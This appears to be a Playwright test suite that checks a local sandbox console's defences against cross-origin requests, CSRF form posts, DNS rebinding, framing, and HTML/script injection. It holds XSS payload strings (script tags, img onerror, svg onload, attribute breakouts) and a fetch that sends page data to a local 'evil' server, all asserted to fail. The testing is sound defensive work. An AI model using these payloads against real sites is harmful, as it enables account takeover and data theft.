import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { type AddressInfo } from 'node:net';
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { assign, defineAccess, defineApi, defineClient, defineEnvironment, defineRoutes, grant, group } from '../../../lib';
import { Sandbox, startConsole, type SandboxConsole } from '../../../lib/sandbox';
import { type SynthesizedDeployment } from '../../../lib/sandbox/stacks';
import { dev } from '../../../stacks/environments/dev';
import { organisation } from '../../../stacks/organisation';
import { findChromium, launch } from '../../support/chromium';
import { secretOf } from '../../support/console';
import { openConsole } from '../../support/console-page';
import { environmentInput, guid } from '../../support/organisation';
import { testWith } from '../../support/required';
import { synthesizedDeployment } from '../../support/sandbox';

const executable = findChromium();
const testInBrowser = testWith('chromium', executable !== undefined, 'no Chromium is in CHROME_PATH or PATH');

let browser: Browser | undefined;
let sandbox: Sandbox;
let console: SandboxConsole;
const ending: (() => Promise<unknown>)[] = [];

afterEach(async () => {
  for (const end of ending.splice(0).reverse()) await end();
});
afterAll(async () => browser?.close());

async function start(deployment: SynthesizedDeployment): Promise<Browser> {
  sandbox = await Sandbox.start(deployment);
  console = await startConsole(sandbox);
  ending.push(
    () => sandbox.close(),
    () => console.close(),
  );
  browser ??= await launch(executable ?? '');
  return browser;
}

/** Somebody else's server, on another port of this machine, and how often it was asked. */
async function evilServer(html: string): Promise<{ readonly port: number; readonly asked: () => number }> {
  let count = 0;
  const server: Server = createServer((_request, response) => {
    count += 1;
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'access-control-allow-origin': '*' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  ending.push(() => {
    server.closeAllConnections();
    return new Promise((resolve) => server.close(resolve));
  });
  return { port: (server.address() as AddressInfo).port, asked: () => count };
}

/** Somebody else's page. */
async function evilPage(context: BrowserContext, name: string, html: string): Promise<Page> {
  const { port } = await evilServer(html);
  const page = await context.newPage();
  await page.goto(`http://${name}:${String(port)}/`);
  return page;
}

/** Whether anything of the sandbox is otherwise than before. */
function state(): string {
  const { entra, home, gateway, clock } = sandbox;
  return JSON.stringify([
    entra.keys.keySet(),
    entra.settings.offsetSeconds,
    Math.round((clock.now() - Date.now()) / 1_000),
    home.grants.assignmentsOf(),
    home.grants.scopeGrantsOf(),
    sandbox.deployment.access.model.clients.map(({ key }) => home.credentials.secretsOf(sandbox.principal(key).appId).length),
    gateway.log.all(),
  ]);
}

const BODY = JSON.stringify({ action: 'replace all' });

/** What the console answered at its keys, as the server sees it: the browser may hide the answer of a frame from its own tools. */
function answersAtKeys(): (readonly [origin: string | undefined, status: number])[] {
  const answers: (readonly [string | undefined, number])[] = [];
  const finished = (message: unknown): void => {
    const { request, response } = message as { request: IncomingMessage; response: ServerResponse };
    if (request.url === '/api/keys') answers.push([request.headers.origin, response.statusCode]);
  };
  subscribe('http.server.response.finish', finished);
  ending.push(() => Promise.resolve(unsubscribe('http.server.response.finish', finished)));
  return answers;
}

testInBrowser.each(['127.0.0.1', 'localhost'])(
  'a page of another port, by the name %s, changes nothing and reads nothing, even where it knows the secret',
  async (name) => {
    const context = await (await start(synthesizedDeployment(organisation, dev))).newContext();
    ending.push(() => context.close());
    const [before, { port }] = [state(), new URL(console.origin)];
    const page = await evilPage(context, name, '<!doctype html><title>evil</title>');
    const results = await page.evaluate(`(async () => {
    const results = [];
    const tryIt = async (what, act) => {
      try { results.push(what + ': ' + await act()); } catch (error) { results.push(what + ': ' + error.name); }
    };
    for (const origin of ['http://127.0.0.1:${port}', 'http://localhost:${port}']) {
      for (const mode of ['cors', 'no-cors']) {
        for (const type of ['application/json', 'text/plain']) {
          await tryIt(mode + ' ' + type, async () => {
            const answer = await fetch(origin + '/api/keys', { method: 'POST', mode, headers: { 'Content-Type': type }, body: ${JSON.stringify(BODY)}, credentials: 'include' });
            return answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + await answer.text();
          });
        }
      }
      await tryIt('with the secret', async () => (await fetch(origin + '/api/keys', { method: 'POST', headers: { 'Content-Type': 'application/json', Authorization: 'Bearer ${secretOf(console)}' }, body: ${JSON.stringify(BODY)} })).status);
      await tryIt('reads the page', async () => (await (await fetch(origin + '/')).text()).length);
      await tryIt('beacon', async () => { navigator.sendBeacon(origin + '/api/keys', new Blob([${JSON.stringify(BODY)}], { type: 'text/plain' })); return 'sent'; });
      await tryIt('script', () => new Promise((resolve) => { const script = document.createElement('script'); script.src = origin + '/'; script.onload = () => resolve('ran'); script.onerror = () => resolve('refused'); document.head.append(script); }));
      await tryIt('image', () => new Promise((resolve) => { const image = new Image(); image.onload = () => resolve('shown'); image.onerror = () => resolve('refused'); image.src = origin + '/'; }));
    }
    return results;
  })()`);

    expect(results).toEqual(
      ['127.0.0.1', 'localhost'].flatMap(() => [
        'cors application/json: TypeError',
        'cors text/plain: TypeError',
        expect.stringMatching(/^no-cors application\/json: (?:opaque|TypeError)$/) as unknown,
        expect.stringMatching(/^no-cors text\/plain: (?:opaque|TypeError)$/) as unknown,
        'with the secret: TypeError',
        'reads the page: TypeError',
        'beacon: sent',
        'script: refused',
        'image: refused',
      ]),
    );
    await page.waitForTimeout(200);
    expect(state()).toBe(before);
  },
);

testInBrowser('a name that leads to the console all at once gets nothing of it, even where it knows the secret', async () => {
  await start(synthesizedDeployment(organisation, dev));
  const rebound = await launch(executable ?? '', [
    '--host-resolver-rules=MAP rebound.example 127.0.0.1',
    // The browser's own guard of this machine is put aside: not all have it.
    '--disable-features=LocalNetworkAccessChecks',
  ]);
  ending.push(() => rebound.close());
  const own = `http://rebound.example:${new URL(console.origin).port}`;
  const context = await rebound.newContext();
  // What the name led to before: a page that stays, of the origin that is the console's by now.
  await context.route(`${own}/before`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>before</title>' }),
  );
  const page = await context.newPage();
  await page.goto(`${own}/before`);
  const [before, answers] = [state(), answersAtKeys()];
  const found = await page.evaluate(`(async () => {
    const headers = { 'Content-Type': 'application/json', Authorization: 'Bearer ${secretOf(console)}' };
    const changed = await fetch('/api/keys', { method: 'POST', headers, body: ${JSON.stringify(BODY)} });
    const read = await fetch('/');
    return [changed.status, read.status, (await read.text()).includes('<script')];
  })()`);

  expect(found).toEqual([421, 421, false]);
  // Chromium asks once more, by another connection, where the answer is 421.
  expect(answers.length).toBeGreaterThan(0);
  expect(answers.filter(([origin, status]) => origin !== own || status !== 421)).toEqual([]);
  expect(state()).toBe(before);
});

testInBrowser.each(['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])(
  'a form of another page, sent as %s, changes nothing',
  async (type) => {
    const context = await (await start(synthesizedDeployment(organisation, dev))).newContext();
    ending.push(() => context.close());
    const before = state();
    const page = await evilPage(
      context,
      '127.0.0.1',
      `<!doctype html><form method="post" action="${console.origin}/api/keys" enctype="${type}"><input name='{"action":"replace all","x":"' value='"}'><button>Win</button></form>`,
    );
    const own = new URL(page.url()).origin;
    const [answer] = await Promise.all([page.waitForResponse(`${console.origin}/api/keys`), page.getByRole('button').click()]);

    expect([answer.status(), answer.request().headers()['origin']]).toEqual([403, own]);
    expect(state()).toBe(before);
  },
);

testInBrowser('a page without an origin changes nothing', async () => {
  const context = await (await start(synthesizedDeployment(organisation, dev))).newContext();
  ending.push(() => context.close());
  const [before, answers] = [state(), answersAtKeys()];
  // The frame asks by script first and by a form after: at least the first has been answered when it says so.
  const inner = `<form method=post action='${console.origin}/api/keys' enctype=text/plain><input name=x></form><script>
    fetch('${console.origin}/api/keys', { method: 'POST', mode: 'no-cors', body: '{}' })
      .then(() => 'sent', () => 'refused')
      .then((done) => { parent.postMessage(done, '*'); document.forms[0].submit(); });
  </script>`;
  const page = await evilPage(context, '127.0.0.1', '<!doctype html><title>evil</title>');
  const done = await page.evaluate(`new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data));
    const frame = Object.assign(document.createElement('iframe'), { srcdoc: ${JSON.stringify(inner)} });
    frame.setAttribute('sandbox', 'allow-scripts allow-forms');
    document.body.append(frame);
  })`);
  await page.waitForTimeout(500);

  expect(done).toMatch(/^(?:sent|refused)$/);
  expect(answers.length).toBeGreaterThan(0);
  expect(answers.filter(([origin, status]) => origin !== 'null' || status !== 403)).toEqual([]);
  expect(state()).toBe(before);
});

testInBrowser('the console shows in no frame of another page, nor in one of its own', async () => {
  const context = await (await start(synthesizedDeployment(organisation, dev))).newContext();
  ending.push(() => context.close());
  const page = await evilPage(
    context,
    '127.0.0.1',
    `<!doctype html><iframe src="${console.url}"></iframe><object data="${console.origin}/"></object><embed src="${console.origin}/">`,
  );
  await page.waitForTimeout(500);
  const shown = await Promise.all(
    page
      .frames()
      .slice(1)
      .map((frame) => frame.locator('#main').count()),
  );

  expect(page.frames().length).toBeGreaterThan(1);
  expect(shown.every((count) => count === 0)).toBe(true);
});

testInBrowser('a page that opens the console in a window holds nothing of it', async () => {
  const context = await (await start(synthesizedDeployment(organisation, dev))).newContext();
  ending.push(() => context.close());
  const page = await evilPage(
    context,
    '127.0.0.1',
    '<!doctype html><button onclick="window.other = window.open(window.address)">Open</button>',
  );
  await page.evaluate(`window.address = ${JSON.stringify(console.url)}`);
  const [other] = await Promise.all([context.waitForEvent('page'), page.getByRole('button').click()]);
  await other.waitForLoadState();
  const held = await page.evaluate(
    '(() => { try { return [window.other.closed, window.other.document === undefined]; } catch (error) { return error.name; } })()',
  );

  // Opened by another page it is refused altogether, and what was opened is cut off from who opened it.
  expect(await other.locator('#main').count()).toBe(0);
  expect(held).not.toEqual([false, false]);
});

const CATCH = 'window.caught=(window.caught||0)+1';
const NAMES = [
  `<script>${CATCH}</script>`,
  `<img src=x onerror=${CATCH}>`,
  `"><svg onload=${CATCH}>`,
  "' onfocus=alert(1) x='",
  'شركة الطلبات',
];

/** A definition whose names are what an attacker would call things. */
function hostileDeployment(): SynthesizedDeployment {
  const [script = '', image = '', svg = '', quotes = '', arabic = ''] = NAMES;
  const api = defineApi({
    key: 'orders',
    name: image,
    team: script,
    owners: ['lead'],
    roles: {
      '<b>': { for: 'applications', description: script },
      '<u>': { for: 'people', description: svg },
      Read: { for: 'applications', description: image },
    },
    scopes: { '<i>': { consent: 'admin', description: svg } },
  });
  const clients = [script, svg, quotes, arabic].map((name, at) =>
    defineClient({ key: `client-${String(at)}`, name, kind: 'daemon', team: script, owners: ['lead'] }),
  );
  const portal = defineClient({ key: 'portal', name: `${script}2`, kind: 'web', team: svg, owners: ['lead'] });
  const model = defineAccess({
    apis: [api],
    clients: [...clients, portal],
    grants: [...clients.map((client) => grant(client, api, { roles: ['<b>'] })), grant(portal, api, { scopes: ['<i>'] })],
    assignments: [assign(group(script, { key: 'script' }), api, ['<u>']), assign(group(arabic, { key: 'arabic' }), api, ['<u>'])],
    routes: defineRoutes(
      api,
      { host: 'public' },
      { list: { methods: ['GET'], path: '/orders', allow: [{ roles: ['<b>'] }, { roles: ['<u>'], scopes: ['<i>'] }] } },
    ),
  });
  const input = environmentInput({ groups: { [script]: guid(1), [arabic]: guid(2) } });
  return synthesizedDeployment(
    model,
    defineEnvironment({ ...input, owners: { lead: guid(3) }, redirectUris: { portal: ['https://portal.example.com/'] } }),
  );
}

testInBrowser.each(['light', 'dark'] as const)('whatever names, claims, paths and headers say is text, in %s', async (colorScheme) => {
  const opened = await openConsole(await start(hostileDeployment()), console, { colorScheme });
  ending.push(() => opened.close());
  const { page, incidents } = opened;
  const claims = {
    azp: NAMES[0],
    oid: NAMES[1],
    scp: 'x',
    [`${NAMES[2] ?? ''}\u202e`]: 'right\u202eto left\u2066 \u200bzero \u0007 bell',
    roles: NAMES,
  };
  const token = ['{"alg":"RS256","kid":"<script>"}', JSON.stringify(claims), 'x']
    .map((part) => Buffer.from(part).toString('base64url'))
    .join('.');
  const path = `/orders/${encodeURIComponent(NAMES[0] ?? '')}/<script>${CATCH}</script>?q=<img/src=x/onerror=${CATCH}>`;
  await sandbox.call({
    host: 'apps.example.com',
    path: '/orders',
    token,
    headers: [
      ['User-Agent', NAMES[1] ?? ''],
      ['X-Forwarded-For', NAMES[0] ?? ''],
    ],
  });
  await sandbox.call({ host: 'apps.example.com', path, token });
  await page.locator('#calls .row').nth(1).waitFor();
  for (const summary of await page.locator('#calls summary').all()) await summary.click();
  for (const node of await page.locator('.node').all()) await node.click();
  await page.getByRole('radio', { name: 'A person' }).check();
  await page.locator('#token-client').selectOption('portal');
  for (const box of await page.locator('#groups input').all()) await box.check();
  await page.getByRole('button', { name: 'Get a token' }).click();
  await page.locator('#token-said .claims').first().waitFor();
  await page.locator('#path').fill(path.slice(0, -1).replaceAll(' ', '%20'));
  await page.locator('#call-form').getByText('Headers, body, address').click();
  await page.locator('#headers').fill(`X-Test: ${NAMES[1] ?? ''}`);
  await page.getByRole('button', { name: 'Call', exact: true }).click();
  await page.locator('.step').nth(4).waitFor();
  const elements = await page.evaluate(
    "['script', 'img', 'b', 'i', 'iframe', 'base', 'link'].map((tag) => document.body.getElementsByTagName(tag).length)",
  );

  expect(await page.evaluate('window.caught')).toBeUndefined();
  expect(elements).toEqual([1, 0, 0, 0, 0, 0, 0]);
  expect(incidents).toEqual([]);
  const text = await page.locator('main').innerText();
  expect(text).toContain(NAMES[0]);
  expect(text).toContain('right\\u202eto left\\u2066 \\u200bzero \\u0007 bell');
  expect(text).toContain(`${NAMES[2] ?? ''}\\u202e`);
  expect(text).not.toMatch(/[\u0000-\u0008\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
});

testInBrowser('what gets into the page all the same does not run, and reaches no other server', async () => {
  const opened = await openConsole(await start(synthesizedDeployment(organisation, dev)), console);
  ending.push(() => opened.close());
  const { page } = opened;
  const { port, asked } = await evilServer('');
  const caught = await page.evaluate(`(async () => {
    const results = [];
    for (const act of [
      () => { document.body.innerHTML = '<img src=x onerror=${CATCH}>'; return 'set'; },
      () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return 'set'; },
      () => { document.body.append(Object.assign(document.createElement('img'), { src: 'http://127.0.0.1:${port}/x.png' })); return 'appended'; },
      () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:${port}/' })); return 'appended'; },
      () => fetch('http://127.0.0.1:${port}/?' + document.title),
    ]) {
      try { results.push(await act()); } catch (error) { results.push(error.name); }
    }
    return results;
  })()`);

  expect(caught).toEqual(['TypeError', 'TypeError', 'appended', 'appended', 'TypeError']);
  expect(await page.evaluate('window.caught')).toBeUndefined();
  expect([asked(), (await fetch(`http://127.0.0.1:${String(port)}/`)).status, asked()]).toEqual([0, 200, 1]);
});
